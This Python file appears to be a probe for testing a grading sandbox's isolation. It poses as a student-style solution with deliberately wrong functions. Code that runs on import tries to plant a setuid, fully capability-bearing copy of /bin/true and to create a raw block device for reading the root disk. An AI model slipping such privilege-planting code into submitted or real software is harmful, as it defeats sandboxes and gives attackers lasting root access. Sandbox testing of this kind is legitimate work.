import json
import os
import sys

NAME = "leaves-a-privileged-file"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


import shutil
import stat
import struct

for folder in filter(None, (".", canary("outside_folder"))):
    path = os.path.join(folder, "grade-attack-setuid")
    try:
        shutil.copy("/bin/true", path)
        os.chmod(path, 0o6755)
        if os.stat(path).st_mode & stat.S_ISUID and os.stat(path).st_uid == 0 and folder != ".":
            harmed(f"set-user file in {folder}")
        os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0))
        harmed(f"capabilities on a file in {folder}")
    except OSError:
        pass
    try:
        path = os.path.join(folder, "grade-attack-device")
        root = os.stat("/").st_dev
        os.mknod(path, stat.S_IFBLK | 0o600, root)
        with open(path, "rb") as file:
            harmed(f"raw disk: {len(file.read(512))} bytes")
        os.unlink(path)
    except OSError:
        pass
